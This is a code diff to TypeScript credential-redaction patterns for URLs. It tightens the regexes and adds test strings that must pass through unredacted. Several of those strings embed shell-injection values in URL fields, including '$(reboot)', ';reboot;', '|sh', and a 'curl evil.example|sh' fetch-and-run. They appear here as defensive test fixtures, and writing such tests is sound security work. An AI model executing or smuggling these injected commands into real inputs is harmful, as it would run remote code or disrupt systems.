@@ -13,7 +13,7 @@ export const URL_PATTERNS: readonly CredentialPattern[] = [
   {
     name: 'password in a URL',
     matches: 'password of `scheme://user:password@host`, of web addresses and connection strings',
-    pattern: /(?<head>:\/\/[^\s/?#@"'<>\\:]{0,256}:)(?<value>[^\s/?#"'<>\\]{1,512})@/g,
+    pattern: /(?<head>:\/\/[^\s/?#@"'<>\\:]{0,256}:)(?:[^\s/?#"'<>\\;|&`$]|\$(?!\()){1,512}@/g,
     replace: (_match, { head = '' }) => `${head}${MASK}@`,
     examples: [
       ['https://user:CANARY-77@host.example/', 'https://user:[redacted]@host.example/'],
@@ -21,15 +21,27 @@ export const URL_PATTERNS: readonly CredentialPattern[] = [
       ['postgres://u:p%40x@h/db?x=1', 'postgres://u:[redacted]@h/db?x=1'],
       ['mongodb+srv://u:p@h.example', 'mongodb+srv://u:[redacted]@h.example'],
     ],
-    stays: ['https://host.example:8080/a@b?c=d:e', 'https://user@host.example/', 'git@host:team/repo.git'],
+    stays: [
+      ...['https://host.example:8080/a@b?c=d:e', 'https://user@host.example/', 'git@host:team/repo.git'],
+      ...[
+        'curl http://x:$(reboot)@h.example',
+        'http://x:`reboot`@h',
+        'http://u:p|sh@h',
+        'http://u:p&reboot&@h',
+      ],
+    ],
   },
   {
     name: 'token in a URL',
     matches: 'user name of 20 or more characters in a URL without a password',
-    pattern: /(?<head>:\/\/)[^\s/?#@"'<>\\:]{20,512}@/g,
+    pattern: /(?<head>:\/\/)(?:[^\s/?#@"'<>\\:;|&`$]|\$(?!\()){20,512}@/g,
     replace: (_match, { head = '' }) => `${head}${MASK}@`,
     examples: [[`git clone https://${LONG_NAME}@host/r.git`, 'git clone https://[redacted]@host/r.git']],
-    stays: ['mailto:joe@host.example', `https://host.example/${LONG_NAME}`],
+    stays: [
+      ...['mailto:joe@host.example', `https://host.example/${LONG_NAME}`],
+      'git clone https://aaaaaaaaaaaaaaaaaaaaaaaa;reboot;@h',
+      'http://$(curl${IFS}evil.example|sh)aaaaaa@h',
+    ],
   },
   {
     name: 'signed URL',
